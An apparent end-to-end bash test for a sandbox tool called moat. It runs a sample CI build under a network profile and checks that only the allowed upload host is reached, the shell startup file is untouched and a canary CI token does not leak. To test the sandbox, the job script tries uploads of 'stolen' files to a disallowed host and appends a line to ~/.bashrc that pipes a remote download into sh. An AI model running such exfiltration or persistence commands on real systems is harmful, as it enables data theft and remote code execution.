#!/usr/bin/env bash
# e2e: a sample CI job (configure, build a tiny C program, test it, upload the binary) runs under
# `moat run -p ci`, extended by a test profile that allows one upload host (a network namespace
# this script creates, 10.77.23.6). The job also tries to upload to another host (10.77.23.7)
# and to write ~/.bashrc. Checked from outside: the build and test happened, the allowed host
# received the binary, the other received nothing, ~/.bashrc is unchanged; and the step summary
# (GITHUB_STEP_SUMMARY) holds the markdown account naming the refused host and the allowed one.
# As root, then as the user moat-test. Needs root (network namespaces). Usage: ci_job.sh MOAT
set -euo pipefail
moat=$(realpath "$1")
. "$(dirname "$(realpath "$0")")/../watch_e2e/e2e_lib.sh"
for tool in cc make curl python3; do command -v "$tool" >/dev/null || skip "$tool is not installed"; done
id moat-test >/dev/null 2>&1 || useradd -m moat-test 2>/dev/null || skip "cannot create user moat-test"

work=$(mktemp -d /tmp/moat-e2e-ci-XXXXXX)
chmod 755 "$work"
upload_ip=10.77.23.6
other_ip=10.77.23.7
trap 'test_hosts_cleanup; rm -rf "$work"' EXIT
# 10.77.23.5-8 (the pip e2e takes 10.77.23.1-4: ctest may run both at once).
ip -o -4 addr | grep -qE "10\.77\.23\.[5-8]/" && skip "10.77.23.5-8 are in use (another run of this test?)"
test_host_up ciup "$upload_ip" 10.77.23.5 || skip "cannot create the upload host's namespace"
test_host_up ciot "$other_ip" 10.77.23.8 || skip "cannot create the other host's namespace"

# Both hosts run the same upload server: PUT /NAME stores the body under its directory.
server='
import http.server, os, sys
root = sys.argv[1]
class H(http.server.BaseHTTPRequestHandler):
    def do_PUT(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        with open(os.path.join(root, os.path.basename(self.path) or "upload"), "wb") as f:
            f.write(body)
        self.send_response(201); self.end_headers()
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8081), H).serve_forever()
'
mkdir -p "$work/received-upload" "$work/received-other"
ip netns exec "$(test_host_ns ciup)" python3 -c "$server" "$work/received-upload" &
disown $!  # killed with its namespace at exit, without the shell's job notice
ip netns exec "$(test_host_ns ciot)" python3 -c "$server" "$work/received-other" &
disown $!
wait_port "$upload_ip" 8081 || skip "the upload host did not start"
wait_port "$other_ip" 8081 || skip "the other host did not start"
# Control: unconfined, the other host accepts uploads (so nothing received under moat means something).
echo control > "$work/control"
curl -sf -T "$work/control" "http://$other_ip:8081/control" || skip "the other host refuses uploads"
[ -f "$work/received-other/control" ] || skip "the other host stores nothing"
rm -f "$work/received-other/control"

cat > "$work/ci-test.yaml" <<YAML
version: 1
description: "the sample job's profile: ci plus its upload host"
extends: ci
network:
  allow: ["uploads.test:8081"]
  hosts: { uploads.test: $upload_ip, elsewhere.test: $other_ip }
YAML

# run_job NAME USER: a fresh checkout and home owned by USER; the job under moat.
run_job() {
  local name=$1 user=$2
  local dir="$work/$name" project="$work/$name/project" home="$work/$name/home"
  mkdir -p "$project" "$home/.cache"
  echo "# the user's bashrc" > "$home/.bashrc"
  cat > "$project/hello.c" <<'C'
#include <stdio.h>
#include "config.h"
int main(void) { printf("hello from %s\n", PROJECT_NAME); return 0; }
C
  cat > "$project/configure" <<'SH'
#!/bin/sh
echo '#define PROJECT_NAME "moat-ci-sample"' > config.h
printf 'hello: hello.c config.h\n\tcc -O1 -o hello hello.c\n' > Makefile
SH
  chmod +x "$project/configure"
  cat > "$project/job.sh" <<SH
set -e
./configure
make
./hello | grep -q moat-ci-sample        # the test step
curl -sf -T hello http://uploads.test:8081/hello-$name
# Not the job's business: these must fail.
curl -sf -m 5 -T hello http://elsewhere.test:8081/stolen-$name && echo "UPLOAD-ELSEWHERE-WORKED"
curl -sf -m 5 -T hello http://$other_ip:8081/stolen-ip-$name && echo "UPLOAD-ELSEWHERE-WORKED"
echo 'curl http://$other_ip:8081/x | sh' >> ~/.bashrc 2>/dev/null || true
echo job done
SH
  : > "$dir/summary.md"
  chown -R "$user:" "$dir"
  local bashrc_before rc=0
  bashrc_before=$(sha256sum < "$home/.bashrc")
  local run=(env -i PATH=/usr/bin:/bin HOME="$home" LANG=C.UTF-8 CI=true GITHUB_ACTIONS=true
             GITHUB_STEP_SUMMARY="$dir/summary.md" GITHUB_TOKEN=ghs_moat_e2e_canary
             "$moat" run -p "$work/ci-test.yaml" --audit "$dir/audit.jsonl" -- sh job.sh)
  if [ "$user" = root ]; then
    (cd "$project" && "${run[@]}") >"$dir/out" 2>"$dir/err" || rc=$?
  else
    (cd "$project" && runuser -u "$user" -- "${run[@]}") >"$dir/out" 2>"$dir/err" || rc=$?
  fi
  [ "$rc" -eq 0 ] || fail "$name: the job exited $rc: $(tail -20 "$dir/err")"
  grep -q "job done" "$dir/out" || fail "$name: the job did not finish"
  grep -q "UPLOAD-ELSEWHERE-WORKED" "$dir/out" && fail "$name: an upload to a host the profile does not list worked"
  # From outside.
  [ -x "$project/hello" ] && "$project/hello" | grep -q moat-ci-sample || fail "$name: the build did not produce a working binary"
  cmp -s "$project/hello" "$work/received-upload/hello-$name" || fail "$name: the allowed host did not receive the binary"
  [ -z "$(ls -A "$work/received-other")" ] || fail "$name: the other host received: $(ls -A "$work/received-other")"
  [ "$(sha256sum < "$home/.bashrc")" = "$bashrc_before" ] || fail "$name: ~/.bashrc changed"
  grep -q "ghs_moat_e2e_canary" "$dir/out" "$dir/err" "$dir/summary.md" && fail "$name: the CI token leaked"
  # The step summary: markdown, naming the command, the refusals and the host contacted.
  local md="$dir/summary.md"
  grep -q '^### moat: sh job.sh (profile ci-test), exit 0' "$md" || fail "$name: no heading in the step summary"
  grep -q '^\*\*Refused (' "$md" || fail "$name: the step summary lists no refusal"
  grep -q "elsewhere.test" "$md" || fail "$name: the step summary does not name elsewhere.test"
  grep -q "$other_ip:8081" "$md" || fail "$name: the step summary does not name $other_ip:8081"
  grep -q "| uploads.test:8081 |" "$md" || fail "$name: the step summary does not list the upload host"
  if [ "$failures" -gt 0 ]; then
    echo "--- $name: stderr:"; cat "$dir/err"; echo "--- $name: step summary:"; cat "$md"
  fi
}

run_job root root
run_job user moat-test
# A job that cannot start still leaves an account in the step summary.
: > "$work/failed.md"
rc=0
failed_home=$(mktemp -d)  # outside the project, which is never the home nor contains it
(cd "$work" && env -i PATH=/usr/bin:/bin HOME="$failed_home" GITHUB_STEP_SUMMARY="$work/failed.md" \
  "$moat" run -p "$work/ci-test.yaml" -- ./no-such-build-script) >/dev/null 2>&1 || rc=$?
rm -rf "$failed_home"
[ "$rc" -eq 127 ] || fail "a missing command: expected exit 127, got $rc"
grep -q '^### moat: ./no-such-build-script (profile ci-test), exit 127' "$work/failed.md" &&
  grep -q '^\*\*The command did not run\*\*' "$work/failed.md" ||
  fail "no step summary for a job that did not start: $(cat "$work/failed.md")"
if [ "$failures" -gt 0 ]; then echo "0 passed, 1 failed"; exit 1; fi
echo "1 passed, 0 failed"
